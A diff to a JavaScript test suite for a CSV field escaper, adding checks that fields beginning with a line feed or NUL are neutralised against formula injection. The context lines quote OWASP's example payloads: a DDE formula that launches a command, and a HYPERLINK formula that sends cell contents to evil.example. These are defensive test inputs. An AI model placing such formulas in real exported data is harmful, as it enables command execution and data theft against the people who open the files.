@@ -53,6 +53,11 @@ describe('csv (RFC 4180)', () => {
       expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
     });
 
+    it('prefixes a text starting with a line feed or a NUL too (ASVS 1.2.10)', () => {
+      expect(csvField('\n=1+1')).toBe('"\'\n=1+1"');
+      expect(csvField('\0=1+1')).toBe("'\0=1+1");
+    });
+
     it("neutralises OWASP's example payloads, quoting them too when they hold a quote or comma", () => {
       expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
       expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Error")')).toBe(
